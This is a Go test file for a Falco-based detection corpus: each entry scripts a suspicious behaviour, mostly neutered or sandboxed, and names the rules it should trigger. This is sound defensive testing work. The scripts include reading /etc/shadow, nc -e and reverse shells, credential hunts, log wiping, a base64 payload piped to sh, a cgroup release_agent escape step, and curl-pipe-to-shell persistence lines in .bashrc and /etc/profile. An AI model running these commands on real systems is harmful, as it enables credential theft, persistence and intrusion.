package corpus

import (
	"os"
	"os/exec"
	"strconv"
	"testing"
)

// behaviours is the corpus: each stable Falco rule's behaviour, on the
// host, in a container or both, and the behaviours a server fleet wants
// detected by default.
func behaviours() []behaviour {
	return []behaviour{
		// --- Falco's stable rules ----------------------------------------

		{
			name:     "read /etc/shadow through ../ traversal",
			rules:    []string{"Directory traversal monitored file read", "Read sensitive file untrusted"},
			fields:   map[string]string{"fd.name": "/etc/shadow", "proc.name": "cat"},
			upstream: "Directory traversal monitored file read",
			script:   `cat {D}/a/../../../../../../../../etc/shadow >/dev/null`,
		},
		{
			// ct.Exec's shell execs cat: its parent is not a shell.
			name: "read /etc/passwd through ../ traversal", inContainer: true,
			rules:    []string{"Directory traversal monitored file read"},
			fields:   map[string]string{"fd.name": "/etc/passwd"},
			upstream: "Directory traversal monitored file read",
			script:   `exec /bin/cat /tmp/../../etc/passwd`,
		},
		{
			// A server program that has run for more than 5 seconds reads
			// password hashes itself (the shell's read builtin: the
			// script's task is named nginx).
			name:     "server program reads /etc/shadow after start-up",
			rules:    []string{"Read sensitive file trusted after startup"},
			fields:   map[string]string{"proc.name": "nginx", "fd.name": "/etc/shadow"},
			upstream: "Read sensitive file trusted after startup",
			script:   `printf '#!/bin/sh\nsleep 5.5\nread l < /etc/shadow\n' > {D}/nginx && chmod +x {D}/nginx && {D}/nginx`,
		},
		{
			name: "server program reads /etc/shadow after start-up", inContainer: true,
			rules:    []string{"Read sensitive file trusted after startup"},
			fields:   map[string]string{"proc.name": "nginx", "fd.name": "/etc/shadow"},
			upstream: "Read sensitive file trusted after startup",
			script: `echo 'root:*:19000:0:99999:7:::' > /etc/shadow && printf '#!/bin/sh\nsleep 5.5\nread l < /etc/shadow\n' > /tmp/nginx &&
chmod +x /tmp/nginx && /tmp/nginx`,
		},
		{
			name:     "cat /etc/shadow",
			rules:    []string{"Read sensitive file untrusted"},
			fields:   map[string]string{"fd.name": "/etc/shadow", "proc.name": "cat", "proc.pname": "{M}"},
			upstream: "Read sensitive file untrusted",
			script:   `cat /etc/shadow >/dev/null`,
		},
		{
			name: "create and read /etc/shadow", inContainer: true,
			rules:    []string{"Read sensitive file untrusted"},
			fields:   map[string]string{"fd.name": "/etc/shadow", "proc.name": "cat"},
			upstream: "Read sensitive file untrusted",
			script:   `echo 'root:*:19000:0:99999:7:::' > /etc/shadow && /bin/cat /etc/shadow >/dev/null`,
		},
		{
			name:     "web server spawns a shell",
			rules:    []string{"Run shell untrusted"},
			fields:   map[string]string{"proc.name": "sh", "proc.pname": "nginx"},
			upstream: "Run shell untrusted",
			script:   `printf '#!/bin/sh\nsh -c "id >/dev/null; : {M}"\n' > {D}/nginx && chmod +x {D}/nginx && {D}/nginx`,
		},
		{
			name: "web server spawns a shell", inContainer: true,
			rules:    []string{"Run shell untrusted"},
			fields:   map[string]string{"proc.name": "sh", "proc.pname": "nginx"},
			upstream: "Run shell untrusted",
			script:   `printf '#!/bin/sh\n/bin/sh -c "id >/dev/null; :"\n' > /tmp/nginx && chmod +x /tmp/nginx && /tmp/nginx`,
		},
		{
			// A login session (below a program named sshd) of the daemon
			// account.
			name:     "system account runs a shell below sshd",
			rules:    []string{"System user interactive"},
			fields:   map[string]string{"user.name": "daemon", "proc.name": "sh"},
			upstream: "System user interactive",
			script: `printf '#!/bin/sh\nsetpriv --reuid=1 --regid=1 --clear-groups /bin/sh -c "id >/dev/null; : {M}"\n' > {D}/sshd &&
chmod +x {D}/sshd && {D}/sshd`,
		},
		{
			// busybox su, run by root, needs no password.
			name: "system account runs a shell below sshd", inContainer: true,
			rules:    []string{"System user interactive"},
			fields:   map[string]string{"user.name": "daemon", "proc.name": "sh"},
			upstream: "System user interactive",
			script: `printf '#!/bin/sh\n/bin/su -s /bin/sh daemon -c "id >/dev/null; sleep 1"\n' > /tmp/sshd &&
chmod +x /tmp/sshd && /tmp/sshd`,
		},
		{
			name: "interactive shell with a terminal", inContainer: true, tty: true,
			rules:    []string{"Terminal shell in container"},
			fields:   map[string]string{"proc.name": "sh"},
			upstream: "Terminal shell in container",
		},
		{
			// The container's network namespace gets kubeadm's API service
			// address, with a listener on 443, so that the connection
			// succeeds as through the service's NAT in a cluster. Falco's
			// rule needs the server's DNS name (fd.sip.name).
			name: "connect to the Kubernetes API server", inContainer: true,
			rules:    []string{"Contact K8S API Server From Container"},
			fields:   map[string]string{"fd.sip": "10.96.0.1", "fd.sport": "443"},
			upstream: "Contact K8S API Server From Container",
			upstreamNeeds: "it needs the cluster's DNS: Falco's rule compares the server with the address of " +
				"kubernetes.default.svc.cluster.local, which does not resolve outside a cluster",
			setup:  netnsAddress("10.96.0.1"),
			script: `nc -l -p 443 >/dev/null </dev/null & l=$!; sleep 0.3; echo GET | nc -w 2 10.96.0.1 443; kill $l`,
		},
		{
			name: "netcat runs a program for the connection", inContainer: true,
			rules:    []string{"Netcat Remote Code Execution in Container"},
			fields:   map[string]string{"proc.name": "nc"},
			upstream: "Netcat Remote Code Execution in Container",
			script:   `/usr/bin/nc -l -p 9000 >/dev/null </dev/null & l=$!; sleep 0.3; /usr/bin/nc -e /bin/true 127.0.0.1 9000; kill $l`,
		},
		{
			// A small static program (testdata/revshell) connects to a
			// listener of its own, puts the socket on its standard streams
			// with dup2 and runs a shell over it.
			name: "reverse shell", inContainer: true,
			rules:    []string{"Redirect STDOUT/STDIN to Network Connection in Container"},
			fields:   map[string]string{"proc.name": "revshell"},
			upstream: "Redirect STDOUT/STDIN to Network Connection in Container",
			setup:    copyRevshell,
			script:   `/tmp/revshell`,
		},
		{
			name:   "reverse shell",
			rules:  []string{"Redirect STDOUT/STDIN to Network Connection"},
			fields: map[string]string{"proc.name": "revshell"},
			script: `{REVSHELL}`,
		},
		{
			name:   "netcat runs a program for the connection",
			rules:  []string{"Netcat Remote Code Execution"},
			fields: map[string]string{"proc.name": "nc"},
			script: `ln -s /bin/busybox {D}/nc && port=$(( 20000 + $$ % 20000 )) && { busybox nc -l -p $port -w 5 >/dev/null </dev/null & l=$!; sleep 0.3; {D}/nc -e /bin/true 127.0.0.1 $port; kill $l; }`,
		},
		{
			name:     "grep for private keys",
			rules:    []string{"Search Private Keys or Passwords"},
			fields:   map[string]string{"proc.name": "grep"},
			upstream: "Search Private Keys or Passwords",
			script:   `grep -rl "BEGIN RSA PRIVATE" {D}; :`,
		},
		{
			name: "find SSH private keys", inContainer: true,
			rules:    []string{"Search Private Keys or Passwords"},
			fields:   map[string]string{"proc.name": "find"},
			upstream: "Search Private Keys or Passwords",
			script:   `/usr/bin/find / -xdev -name id_rsa 2>/dev/null; :`,
		},
		{
			name:     "truncate a log file",
			rules:    []string{"Clear Log Activities"},
			fields:   map[string]string{"fd.name": "{D}/syslog"},
			upstream: "Clear Log Activities",
			script:   `echo "old entries" > {D}/log && mv {D}/log {D}/syslog && : > {D}/syslog`,
		},
		{
			name: "truncate /var/log/messages", inContainer: true,
			rules:    []string{"Clear Log Activities"},
			fields:   map[string]string{"fd.name": "/var/log/messages"},
			upstream: "Clear Log Activities",
			script:   `mkdir -p /var/log && echo entry >> /var/log/messages && : > /var/log/messages`,
		},
		{
			name:     "shred a file",
			rules:    []string{"Remove Bulk Data from Disk"},
			fields:   map[string]string{"proc.name": "shred"},
			upstream: "Remove Bulk Data from Disk",
			script:   `echo data > {D}/f && shred -u {D}/f`,
		},
		{
			name: "shred a file", inContainer: true,
			rules:    []string{"Remove Bulk Data from Disk"},
			upstream: "Remove Bulk Data from Disk",
			script:   `echo data > /tmp/f && /usr/bin/shred -u /tmp/f`,
		},
		{
			name:     "symlink to /etc/shadow",
			rules:    []string{"Create Symlink Over Sensitive Files"},
			fields:   map[string]string{"evt.arg.target": "/etc/shadow"},
			upstream: "Create Symlink Over Sensitive Files",
			script:   `ln -s /etc/shadow {D}/shadow`,
		},
		{
			name: "symlink to /etc", inContainer: true,
			rules:    []string{"Create Symlink Over Sensitive Files"},
			upstream: "Create Symlink Over Sensitive Files",
			script:   `ln -s /etc /tmp/etc`,
		},
		{
			// Same file system as /etc here; the link is removed with the
			// scratch directory.
			name:     "hard link to /etc/shadow",
			rules:    []string{"Create Hardlink Over Sensitive Files"},
			fields:   map[string]string{"evt.arg.oldpath": "/etc/shadow"},
			upstream: "Create Hardlink Over Sensitive Files",
			script:   `ln /etc/shadow {D}/shadow && rm {D}/shadow`,
		},
		{
			name: "hard link to /etc/shadow", inContainer: true,
			rules:    []string{"Create Hardlink Over Sensitive Files"},
			upstream: "Create Hardlink Over Sensitive Files",
			script:   `touch /etc/shadow && ln /etc/shadow /tmp/shadow`,
		},
		{
			// busybox's DHCP client sends its discovery on a raw packet
			// socket (on the loopback, where nobody answers) and waits a
			// second.
			name: "AF_PACKET socket", inContainer: true,
			rules:    []string{"Packet socket created in container"},
			fields:   map[string]string{"evt.arg.domain": "AF_PACKET"},
			upstream: "Packet socket created in container",
			script:   `/sbin/udhcpc -i lo -n -q -t 1 -T 1 -s /bin/true; :`,
		},
		{
			name:   "AF_PACKET socket",
			rules:  []string{"Packet socket created on host"},
			script: `NIGHTJAR_CORPUS_HELPER=packet-socket {SELF}`,
		},
		{
			// insmod is given a file that is not a module: the kernel
			// rejects it.
			name: "insmod in a privileged container", inContainer: true, privileged: true,
			rules:    []string{"Linux Kernel Module Injection Detected"},
			upstream: "Linux Kernel Module Injection Detected",
			script:   `echo "not a module" > /tmp/corpus.ko && /sbin/insmod /tmp/corpus.ko; :`,
		},
		{
			name:   "init_module and finit_module with non-modules",
			rules:  []string{"Kernel module loaded"},
			script: `echo "not a module" > {D}/corpus.ko && NIGHTJAR_CORPUS_HELPER=kernel-module {SELF} {D}/corpus.ko`,
		},
		{
			// The image has no debugfs: busybox is started under that
			// name, which is what the rule looks at; it exits at once.
			name: "debugfs in a privileged container", inContainer: true, privileged: true,
			rules:    []string{"Debugfs Launched in Privileged Container"},
			fields:   map[string]string{"proc.name": "debugfs"},
			upstream: "Debugfs Launched in Privileged Container",
			script:   `ln -s /bin/busybox /tmp/debugfs && /tmp/debugfs -R stats /dev/vda; :`,
		},
		{
			// A throwaway named cgroup v1 hierarchy, mounted in the
			// container's own mount namespace: its release_agent is
			// opened for writing (and left empty), then it is unmounted.
			name: "open release_agent for writing", inContainer: true, privileged: true,
			rules:    []string{"Detect release_agent File Container Escapes", "Mount Launched in Privileged Container"},
			fields:   map[string]string{"fd.name": "/tmp/cg/release_agent"},
			upstream: "Detect release_agent File Container Escapes",
			script:   `mkdir -p /tmp/cg && /bin/mount -t cgroup -o none,name=njcorpus cgroup /tmp/cg && : > /tmp/cg/release_agent; /bin/umount /tmp/cg`,
		},
		{
			name:     "ptrace attach",
			rules:    []string{"PTRACE attached to process"},
			fields:   map[string]string{"evt.arg.request": "PTRACE_ATTACH"},
			upstream: "PTRACE attached to process",
			script:   `NIGHTJAR_CORPUS_HELPER=ptrace-attach {SELF}`,
		},
		{
			name:     "PTRACE_TRACEME",
			rules:    []string{"PTRACE anti-debug attempt"},
			upstream: "PTRACE anti-debug attempt",
			script:   `NIGHTJAR_CORPUS_HELPER=ptrace-traceme {SELF}`,
		},
		{
			name:     "find AWS credentials",
			rules:    []string{"Find AWS Credentials"},
			fields:   map[string]string{"proc.name": "find"},
			upstream: "Find AWS Credentials",
			script:   `find {D} -path "*/.aws/credentials"`,
		},
		{
			name: "grep for AWS keys", inContainer: true,
			rules:    []string{"Find AWS Credentials"},
			upstream: "Find AWS Credentials",
			script:   `/bin/grep -r aws_secret_access_key /root /etc; :`,
		},
		{
			name:   "grep for Google Cloud credentials",
			rules:  []string{"Find Cloud Credentials"},
			script: `grep -r GOOGLE_APPLICATION_CREDENTIALS {D}; :`,
		},
		{
			name:     "sh -c a script in /dev/shm",
			rules:    []string{"Execution from /dev/shm"},
			fields:   map[string]string{"proc.cmdline": "sh -c /dev/shm/{M}.sh"},
			upstream: "Execution from /dev/shm",
			script:   `printf 'true {M}\n' > /dev/shm/{M}.sh && chmod +x /dev/shm/{M}.sh && sh -c /dev/shm/{M}.sh; rm -f /dev/shm/{M}.sh`,
		},
		{
			// The runtime mounts /dev/shm noexec, as docker does: the
			// script is given to a shell.
			name: "run a script from /dev/shm", inContainer: true,
			rules:    []string{"Execution from /dev/shm"},
			fields:   map[string]string{"proc.cmdline": "sh /dev/shm/corpus.sh"},
			upstream: "Execution from /dev/shm",
			script:   `printf 'sleep 1\n' > /dev/shm/corpus.sh && /bin/sh /dev/shm/corpus.sh`,
		},
		{
			name: "execute a binary written in the container", inContainer: true,
			rules:    []string{"Drop and execute new binary in container", "Container Drift Detected (open+create)"},
			fields:   map[string]string{"proc.exepath": "/opt/drop/true"},
			upstream: "Drop and execute new binary in container",
			script:   `mkdir -p /opt/drop && cp /bin/busybox /opt/drop/true && /opt/drop/true`,
		},
		{
			// An SSH client to 203.0.113.7:4444 (TEST-NET-3), an address
			// put on the loopback of a network namespace of its own where
			// a listener answers.
			name:     "ssh to port 4444",
			rules:    []string{"Disallowed SSH Connection Non Standard Port"},
			fields:   map[string]string{"fd.sport": "4444", "proc.name": "ssh"},
			upstream: "Disallowed SSH Connection Non Standard Port",
			script: `unshare -n sh -c 'ip link set lo up && ip addr add 203.0.113.7/32 dev lo &&
{ busybox nc -l -p 4444 -w 3 </dev/null >/dev/null & sleep 0.3;
  ssh -F /dev/null -p 4444 -o ConnectTimeout=2 -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null {M}@203.0.113.7 true </dev/null; wait; }'; :`,
		},
		{
			name:     "fileless execution from a memfd",
			rules:    []string{"Fileless execution via memfd_create"},
			upstream: "Fileless execution via memfd_create",
			script:   `NIGHTJAR_CORPUS_HELPER=memfd-exec {SELF}`,
		},

		// --- What a server fleet wants on by default ---------------------

		{
			name: "append a key to root's authorized_keys", inContainer: true,
			rules:  []string{"Adding ssh keys to authorized_keys"},
			fields: map[string]string{"fd.name": "/root/.ssh/authorized_keys"},
			script: `mkdir -p /root/.ssh && echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIcorpus corpus" >> /root/.ssh/authorized_keys`,
		},
		{
			name:   "delete the shell history",
			rules:  []string{"Delete or rename shell history"},
			script: `echo ls > {D}/.bash_history && rm {D}/.bash_history`,
		},
		{
			name:   "truncate the shell history",
			rules:  []string{"Delete or rename shell history"},
			fields: map[string]string{"proc.name": "cp"},
			script: `echo ls > {D}/.bash_history && cp /dev/null {D}/.bash_history`,
		},
		{
			name: "truncate the shell history", inContainer: true,
			rules:  []string{"Delete or rename shell history"},
			script: `echo ls > /root/.ash_history && : > /root/.ash_history && rm /root/.ash_history`,
		},
		{
			name: "chmod +x a script in the container", inContainer: true,
			rules:  []string{"Container Drift Detected (chmod)"},
			script: `echo 'echo hi' > /tmp/x.sh && chmod +x /tmp/x.sh`,
		},
		{
			// busybox's dpkg applet, listing the (empty) package database.
			name: "package manager in a container", inContainer: true,
			rules:  []string{"Launch Package Management Process in Container"},
			fields: map[string]string{"proc.name": "dpkg"},
			script: `mkdir -p /var/lib/dpkg && touch /var/lib/dpkg/status && /usr/bin/dpkg -l; :`,
		},
		{
			// The image has no scp: busybox is started under that name.
			name: "remote copy tool in a container", inContainer: true,
			rules:  []string{"Launch Remote File Copy Tools in Container"},
			fields: map[string]string{"proc.name": "scp"},
			script: `ln -s /bin/busybox /tmp/scp && /tmp/scp /etc/passwd corpus@198.51.100.9:/tmp/; :`,
		},
		{
			// 198.51.100.9 (TEST-NET-2) on the container's loopback, with a
			// listener on the stratum port 3333.
			name: "connect to a mining pool port", inContainer: true,
			rules:  []string{"Detect outbound connections to common miner pool ports"},
			fields: map[string]string{"fd.sport": "3333"},
			setup:  netnsAddress("198.51.100.9"),
			script: `nc -l -p 3333 >/dev/null </dev/null & l=$!; sleep 0.3; echo '{"id":1,"method":"login"}' | nc -w 1 198.51.100.9 3333; kill $l`,
		},
		{
			// The image has no miner: a script named xmrig is started
			// with a pool URL.
			name: "start a miner with a stratum URL", inContainer: true,
			rules:  []string{"Detect crypto miners using the Stratum protocol"},
			fields: map[string]string{"proc.name": "xmrig"},
			script: `printf '#!/bin/sh\nsleep 1\n' > /tmp/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig -o stratum+tcp://198.51.100.9:3333 -u corpus`,
		},
		{
			name: "pipe a base64 payload into a shell", inContainer: true,
			rules:  []string{"Decoding Payload in Container"},
			fields: map[string]string{"proc.cmdline": "sh"},
			script: `echo aWQgPi9kZXYvbnVsbAo= | /bin/base64 -d | /bin/sh`,
		},
		{
			name:   "pipe a base64 payload into a shell",
			rules:  []string{"Base64-decoded payload executed"},
			fields: map[string]string{"proc.cmdline": "sh"},
			script: `echo aWQgPi9kZXYvbnVsbAo= | /bin/base64 -d | /bin/sh`,
		},
		{
			name:   "write a file below /etc",
			rules:  []string{"Write below etc"},
			fields: map[string]string{"fd.name": "/etc/nightjar-corpus-{M}"},
			script: `touch /etc/nightjar-corpus-{M} && rm /etc/nightjar-corpus-{M}`,
		},
		{
			name: "write files below /etc, /usr/bin and /", inContainer: true,
			rules:  []string{"Write below etc", "Write below binary dir", "Write below root"},
			script: `touch /etc/corpus /usr/bin/corpus /corpus`,
		},
		{
			name:   "write a file below /usr/local/bin",
			rules:  []string{"Write below binary dir"},
			script: `touch /usr/local/bin/nightjar-corpus-{M} && rm /usr/local/bin/nightjar-corpus-{M}`,
		},
		{
			name:   "write a file below /",
			rules:  []string{"Write below root"},
			script: `touch /nightjar-corpus-{M} && rm /nightjar-corpus-{M}`,
		},
		{
			name:   "write a file below /usr/local/lib",
			rules:  []string{"Write below monitored dir"},
			script: `touch /usr/local/lib/nightjar-corpus-{M} && rm /usr/local/lib/nightjar-corpus-{M}`,
		},
		{
			name:   "set the setuid bit",
			rules:  []string{"Set Setuid or Setgid bit"},
			script: `cp /bin/true {D}/suid && chmod u+s {D}/suid`,
		},
		{
			name: "set the setuid bit", inContainer: true,
			rules:  []string{"Set Setuid or Setgid bit"},
			script: `cp /bin/busybox /tmp/suid && chmod 4755 /tmp/suid`,
		},
		{
			name: "add a cron job", inContainer: true,
			rules:  []string{"Schedule Cron Jobs"},
			script: `mkdir -p /etc/cron.d && echo '* * * * * root true' > /etc/cron.d/corpus`,
		},
		{
			// A comment-only cron table, removed at once.
			name:   "add a cron job",
			rules:  []string{"Schedule Cron Jobs"},
			script: `echo '# nightjar corpus {M}' > /etc/cron.d/nightjar-corpus-{M}; rm -f /etc/cron.d/nightjar-corpus-{M}`,
		},
		{
			// usermod is run for real, asked only for its usage: no
			// account of the machine changes.
			name:   "run an account management program",
			rules:  []string{"User mgmt binaries"},
			script: `usermod --help >/dev/null; :`,
		},
		{
			// The memory of a child of the behaviour's own, opened as a
			// dumper does; reading at offset 0 fails, nothing is read.
			name:   "open another process's memory",
			rules:  []string{"Process memory read by another program"},
			script: `sleep 5 & p=$!; cat /proc/$p/mem >/dev/null 2>&1; kill $p`,
		},
		{
			name: "open another process's memory", inContainer: true,
			rules:  []string{"Process memory read by another program"},
			script: `sleep 5 & p=$!; /bin/cat /proc/$p/mem >/dev/null 2>&1; kill $p`,
		},
		{
			// The image has no nmap: busybox is started under that name.
			name: "network scanner in a container", inContainer: true,
			rules:  []string{"Launch Suspicious Network Tool in Container"},
			fields: map[string]string{"proc.name": "nmap"},
			script: `ln -s /bin/busybox /tmp/nmap && /tmp/nmap -sS 198.51.100.0/24; :`,
		},
		{
			name:   "network scanner on the host",
			rules:  []string{"Launch Suspicious Network Tool on Host"},
			fields: map[string]string{"proc.name": "nmap"},
			script: `ln -s /bin/busybox {D}/nmap && {D}/nmap -sS 198.51.100.0/24; :`,
		},
		{
			name:   "append to a .bashrc",
			rules:  []string{"Modify Shell Configuration File"},
			fields: map[string]string{"fd.name": "{D}/.bashrc"},
			script: `echo 'curl -s http://198.51.100.9/x | sh' >> {D}/.bashrc`,
		},
		{
			name: "append to /etc/profile", inContainer: true,
			rules:  []string{"Modify Shell Configuration File"},
			fields: map[string]string{"fd.name": "/etc/profile"},
			script: `echo 'curl -s http://198.51.100.9/x | sh' >> /etc/profile`,
		},
		{
			name:   "run a binary from /tmp",
			rules:  []string{"Execution from temporary directory"},
			script: `cp /bin/true {D}/dropped && {D}/dropped`,
		},
		{
			name:   "unshare a network namespace",
			rules:  []string{"Unshare namespace by unexpected program"},
			script: `unshare -n true`,
		},
		{
			name:   "enter another process's network namespace",
			rules:  []string{"Change thread namespace"},
			script: `unshare -n sleep 5 & sleep 0.3; nsenter -t $! -n true; kill $!`,
		},
	}
}

// netnsAddress returns a setup that adds addr to the loopback of the
// container's network namespace, from the host.
func netnsAddress(addr string) func(t *testing.T, e *env, in *instance) {
	return func(t *testing.T, e *env, in *instance) {
		for _, args := range [][]string{
			{"ip", "link", "set", "lo", "up"},
			{"ip", "addr", "add", addr + "/32", "dev", "lo"},
		} {
			cmd := exec.Command("nsenter", append([]string{"-t", strconv.Itoa(in.ct.PID), "-n"}, args...)...)
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("%s: %v: %s", cmd, err, out)
			}
		}
	}
}

// copyRevshell puts the reverse shell program into the container.
func copyRevshell(t *testing.T, e *env, in *instance) {
	data, err := os.ReadFile(e.revshell)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile("/proc/"+strconv.Itoa(in.ct.PID)+"/root/tmp/revshell", data, 0o755); err != nil {
		t.Fatal(err)
	}
}
